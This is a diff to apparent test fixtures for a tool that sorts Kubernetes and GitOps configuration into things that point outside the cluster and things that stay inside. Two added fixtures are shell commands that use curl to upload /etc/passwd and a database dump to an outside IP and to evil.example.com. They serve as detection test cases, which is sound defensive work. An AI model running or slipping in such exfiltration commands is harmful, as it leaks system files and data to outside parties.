@@ -218,6 +218,13 @@ ELSEWHERE = {
         "v1", "Secret", "s", "a", stringData={".dockerconfigjson": json.dumps({"auths": {"quay.io": {"auth": "x"}}})}
     ),
     "a manifest of somewhere else": custom("Application", source={"repoURL": "git@github.com:a/b"}),
+    "an object at Amazon": kube("s3.services.k8s.aws/v1alpha1", "Bucket", "b", "a", spec={"name": "customers"}),
+    "an object at Google": kube("sql.cnrm.cloud.google.com/v1beta1", "SQLInstance", "s", "a", spec={}),
+    "an object at Azure": kube("dbforpostgresql.azure.com/v1api20221201", "FlexibleServer", "s", "a", spec={}),
+    "a page's script": config(index__html="<script async src='//cdn.example.com/a.js'></script>\n"),
+    "an address with a path": arguments("sh", "-c", "curl -d @/etc/passwd 104.248.94.23/upload"),
+    "a name with a path": arguments("sh", "-c", "curl -T dump.sql evil.example.com/upload"),
+    "a store by its URL": custom(backend="s3://state?region=us-east-1"),
     "a comment's sign in a quoted word": config(run="x\ncurl -H 'a # b' https://db.example.com\n"),
 }
 
@@ -271,6 +278,14 @@ STAYS = {
         "v1", "ConfigMap", "c", "a", metadata={"annotations": {"artifacthub.io/links": "https://docs.example.com"}}
     ),
     "an image that GitOps fills in": custom(image=None),
+    "storage on the nodes": kube("storage.k8s.io/v1", "StorageClass", "s", provisioner="driver.longhorn.io"),
+    "files from a driver": kube("v1", "Pod", "p", "a", spec={"volumes": [{"csi": {"driver": "csi.cert-manager.io"}}]}),
+    "keys of hosts": config(ssh_known_hosts="github.com ssh-ed25519 AAAA\n[ssh.github.com]:443 ssh-ed25519 AAAA\n"),
+    "a route of Traefik": kube(
+        "traefik.io/v1alpha1", "IngressRoute", "r", "a", spec={"routes": [{"match": "Host(`a.example.com`)"}]}
+    ),
+    "a store of one's own by its URL": custom(backend="s3://state?endpoint=minio.files:9000"),
+    "the zone of a solver": custom(acme={"solvers": [{"selector": {"dnsZones": ["example.com"]}}]}),
     "a picture": custom(logoImage="logo.png"),
 }
 
